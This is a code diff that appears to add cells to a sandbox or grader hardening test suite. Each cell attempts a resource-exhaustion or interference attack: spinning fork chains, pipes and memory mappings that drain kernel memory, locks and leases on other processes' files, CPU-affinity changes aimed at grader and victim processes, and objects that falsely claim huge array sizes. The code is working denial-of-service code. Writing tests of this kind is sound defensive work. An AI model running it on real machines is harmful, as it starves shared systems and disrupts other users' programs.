@@ -450,3 +450,242 @@ for change in (lambda: os.nice(-10), lambda: os.setpriority(os.PRIO_PROCESS, 0, 
     try: change()
     except OSError: continue
     raise RuntimeError("SUCCEEDED in changing the priority")
+
+# %% weights of ever new sizes
+# Return arrays of ever new sizes, for each of which an explanation needs numbers of its own.
+sizes = iter(range(500_000, 10**7, 1_001))
+def total(values): return np.ones(next(sizes))
+def scale(X, factor): return [np.ones(next(sizes)) for _ in range(8)]
+def label(x): return [np.ones(next(sizes)) for _ in range(8)]
+def descend(g, s, n): return np.ones(next(sizes))
+
+# %% dtypes by the ten thousand
+# Return texts of ever new lengths: each is a dtype of its own, which somebody may remember.
+lengths = iter(range(1, 99_999))
+def total(values): return [np.zeros(0, f"U{next(lengths)}") for _ in range(5_000)]
+def scale(X, factor): return [np.zeros(0, f"S{next(lengths)}") for _ in range(5_000)]
+def descend(g, s, n): return [np.zeros(0, f">U{next(lengths)}") for _ in range(5_000)]
+
+# %% sizes claimed by other protocols
+# Claim memory by array interfaces, buffers and hints of lengths that nobody can check.
+class Claims:
+    __array_interface__ = {"shape": (10**9,), "typestr": "<f8", "data": (0, False), "version": 3}
+    __array_struct__ = None
+    def __length_hint__(self): return 10**10
+    def __len__(self): return 999_999
+    def __getitem__(self, index): return Claims()
+    def __buffer__(self, flags): return memoryview(bytes(10)).cast("B")
+    def __index__(self): return 10**12
+    shape, ndim, size, dtype = (10**9,), 1, 10**9, np.dtype(float)
+def descend(gradient, start, steps):
+    for value in (Claims(), [Claims()] * 10, (Claims(),)):
+        try: gradient(value)
+        except Exception: pass  # an attacker goes on with the next value
+    return Claims()
+def total(values): return Claims()
+def scale(X, factor): return [Claims(), Claims()]
+
+# %% rows that claim more rows
+# Return a sequence whose elements are as long as may be, over and over, where an array is wanted.
+class Rows:
+    def __init__(self, depth): self.depth = depth
+    def __len__(self): return 1_000
+    def __getitem__(self, index):
+        if index >= 1_000: raise IndexError(index)
+        return Rows(self.depth - 1) if self.depth else 0.0
+def descend(gradient, start, steps): return gradient(Rows(5))
+def scale(X, factor): return Rows(5)
+def total(values): return [Rows(3)] * 1_000
+
+# %% kinds by one method at a time
+# Make classes that differ in their special methods, and answer every call with an object of another.
+import itertools
+methods = ("__call__", "__len__", "__getitem__", "__setitem__", "__delitem__", "__iter__", "__next__", "__reversed__",
+           "__float__", "__int__", "__index__", "__complex__", "__bool__", "__enter__", "__exit__")
+def kinds():
+    for size in range(1, 8):
+        for chosen in itertools.combinations(methods, size):
+            yield type("K", (), dict.fromkeys(chosen, lambda self, *rest: 0.0))()
+made = kinds()
+def total(values): return [next(made) for _ in range(60)]
+def label(x): return [next(made) for _ in range(60)]
+def scale(X, factor): return [next(made) for _ in range(60)]
+
+# %% kinds with names without end
+# Hand over objects whose types have names without end, and so many that each is one of its own.
+def named(n): return type("n" * 10**6 + str(n), (), {"__call__": print, "__len__": lambda self: 3})()
+def total(values): return [named(n) for n in range(50)]
+def scale(X, factor): return [type(named(n)) for n in range(50)]
+def descend(g, s, n):
+    for k in range(200): g(named(k))
+
+# %% processors for other programs
+# Choose processors for threads, for other programs, and for processes that belong to others.
+import ctypes, os, subprocess
+libc = ctypes.CDLL(None, use_errno=True)
+mask = (ctypes.c_ulong * 16)(*[2**64 - 1] * 16)
+for pid in (0, os.getpid(), CANARY["grader"], CANARY["server"], CANARY["victim"]):
+    if libc.sched_setaffinity(pid, 128, mask) == 0: raise RuntimeError("SUCCEEDED in choosing processors")
+if libc.pthread_setaffinity_np(ctypes.c_void_p(libc.pthread_self()), 128, mask) == 0: raise RuntimeError("SUCCEEDED in choosing processors")
+for command in ("taskset -p ff $$", "taskset ff true", "chrt -f 10 true", "chrt -i 0 true; ionice -c 1 true"):
+    subprocess.run(command, shell=True, timeout=1, capture_output=True)
+
+# %% processes that spin where nobody waits
+# Leave many processes and threads that spin, each of which starts another before it is noticed.
+import os, threading, time
+def spin():
+    until = time.monotonic() + 0.1
+    while time.monotonic() < until: pass
+    try: child = os.fork()
+    except OSError: child = 0
+    if child == 0: spin()
+for _ in range(24):
+    if os.fork() == 0:
+        threading.Thread(target=spin).start()
+        spin()
+time.sleep(1)
+
+# %% locks on files that others lock
+# Lock whatever may be opened, as a whole and in parts, so that whoever waits for a lock waits for ever.
+import fcntl, glob, os
+keep = []
+for path in (np.__file__, os.__file__, CANARY["home"], CANARY["folder"] + "/canary.txt", *glob.glob(os.path.dirname(np.__file__) + "/*.py")):
+    try:
+        file = os.open(path, os.O_RDONLY)
+        for lock in (lambda: fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB), lambda: fcntl.lockf(file, fcntl.LOCK_SH | fcntl.LOCK_NB)):
+            try: lock()
+            except OSError: pass
+        keep.append(file)
+    except OSError: pass
+
+# %% leases by another door
+# Take leases by raw system calls and in children, on files of one's own and of others.
+import ctypes, fcntl, os
+libc = ctypes.CDLL(None, use_errno=True)
+own = os.open("own", os.O_RDWR | os.O_CREAT)
+for file in (own, os.open(np.__file__, os.O_RDONLY)):
+    for kind in (fcntl.F_RDLCK, fcntl.F_WRLCK):
+        if libc.syscall(72, file, 1024, kind) == 0 or libc.fcntl(file, 1024, kind) == 0:
+            raise RuntimeError("SUCCEEDED in taking a lease")
+        if os.fork() == 0:
+            os._exit(libc.fcntl(file, 1024, kind) == 0)
+        if os.wait()[1]: raise RuntimeError("SUCCEEDED in taking a lease in a child")
+
+# %% memory in pipes
+# Fill pipes in many processes, as large as they may be, with bytes that nobody reads.
+import fcntl, os, time
+for _ in range(60):
+    if os.fork() == 0:
+        keep = []
+        try:
+            while True:
+                reading, writing = os.pipe2(os.O_NONBLOCK)
+                keep.append((reading, writing))
+                try: fcntl.fcntl(writing, fcntl.F_SETPIPE_SZ, 2**20)
+                except OSError: pass
+                try:
+                    while True: os.write(writing, bytes(2**16))
+                except BlockingIOError: pass
+        except OSError: pass
+        time.sleep(60)
+time.sleep(60)
+
+# %% sockets within sockets
+# Send open files through sockets, so that they are open although no process has them open.
+import array, os, socket
+a, b = socket.socketpair()
+for n in range(200):
+    c, d = socket.socketpair()
+    a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [c.fileno(), d.fileno()]))])
+raise RuntimeError("SUCCEEDED in sending open files")
+
+# %% dark folders within dark folders
+# Fill the disk below folders in folders, none of which may be listed, by their descriptors alone.
+import os, time
+place = os.open(".", os.O_PATH)
+for n in range(100):
+    os.mkdir("dark", 0o300, dir_fd=place)
+    place = os.open("dark", os.O_PATH, dir_fd=place)
+    with open(os.open("fill", os.O_CREAT | os.O_WRONLY, 0o200, dir_fd=place), "wb") as file: file.write(os.urandom(8 * 2**20))
+time.sleep(60)
+
+# %% mappings without memory
+# Cut an empty mapping into as many as there may be, and let many processes inherit them: the kernel's memory.
+import ctypes, os, time
+libc = ctypes.CDLL(None, use_errno=True)
+libc.mmap.restype = ctypes.c_void_p
+libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
+libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
+start = libc.mmap(None, 62_000 * 4096, 0, 0x22, -1, 0)
+for n in range(0, 62_000, 2): libc.mprotect(start + n * 4096, 4096, 1)
+for _ in range(60):
+    if os.fork() == 0: time.sleep(60)
+time.sleep(60)
+
+# %% mappings of files
+# Map one file thousands of times, without reading it, in many processes: the kernel's memory.
+import mmap, os, time
+open("file", "wb").write(bytes(4096))
+file = os.open("file", os.O_RDONLY)
+keep = [mmap.mmap(file, 4096, access=mmap.ACCESS_READ) for _ in range(200)]
+import ctypes
+libc = ctypes.CDLL(None)
+libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
+libc.mmap.restype = ctypes.c_void_p
+for n in range(62_000): libc.mmap(None, 4096, 1, 2, file, 0)
+for _ in range(60):
+    if os.fork() == 0: time.sleep(60)
+time.sleep(60)
+
+# %% mappings that threads have in common
+# Make mappings in threads of many processes, each of which cuts its own stack and heap into pieces.
+import ctypes, os, threading, time
+libc = ctypes.CDLL(None)
+libc.mmap.restype = ctypes.c_void_p
+libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
+libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
+def cut():
+    start = libc.mmap(None, 31_000 * 4096, 3, 0x22, -1, 0)
+    for n in range(0, 31_000, 2): libc.madvise(start + n * 4096, 4096, 16)
+for _ in range(2):
+    thread = threading.Thread(target=cut)
+    thread.start()
+    thread.join()
+for _ in range(60):
+    if os.fork() == 0: time.sleep(60)
+time.sleep(60)
+
+# %% rules that the kernel keeps
+# Fill the kernel's memory with rules of Landlock, of which one may have as many as one likes.
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+kept, rule = [], (ctypes.c_ulonglong * 2)(1, 0)
+for _ in range(200):
+    kept.append(libc.syscall(444, (ctypes.c_ulonglong * 2)(1, 3), ctypes.c_size_t(16), 0))
+    if kept[-1] < 0: break
+    for rule[1] in range(500): libc.syscall(445, kept[-1], 2, rule, 0)
+if max(kept) >= 0: raise RuntimeError("SUCCEEDED in taking memory of the kernel's")
+
+# %% locks on parts of files
+# Fill the kernel's memory with locks, of which a file may have one for each of its bytes.
+import fcntl, os, struct
+files = [open(f"file{n}", "w+b") for n in range(50)]
+for file in files:
+    for n in range(300): fcntl.lockf(file, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, 2 * n)
+    fcntl.fcntl(file, 37, struct.pack("hhqqi4x", fcntl.F_WRLCK, 0, 10**6, 1, 0))
+if os.fork() == 0:
+    asked = struct.pack("hhqqi", fcntl.F_WRLCK, 0, 0, 0, 0)
+    os._exit(struct.unpack("hhqqi", fcntl.fcntl(files[0], fcntl.F_GETLK, asked))[0] != fcntl.F_UNLCK)
+if os.wait()[1]: raise RuntimeError("SUCCEEDED in taking memory of the kernel's")
+
+# %% filters and requests that the machine shares
+# Take what all programs of the machine share: memory for filters, and requests that are under way.
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+allow = ctypes.create_string_buffer(b"\x06\x00\x00\x00\x00\x00\xff\x7f" * 4000)
+class Program(ctypes.Structure): _fields_ = [("length", ctypes.c_ushort), ("code", ctypes.c_void_p)]
+program = Program(4000, ctypes.addressof(allow))
+context = ctypes.c_ulong(0)
+done = [libc.prctl(22, 2, ctypes.byref(program), 0, 0), libc.syscall(317, 1, 0, ctypes.byref(program)),
+        libc.syscall(206, 60_000, ctypes.byref(context))]
+if max(done) >= 0: raise RuntimeError("SUCCEEDED in taking what the machine shares")
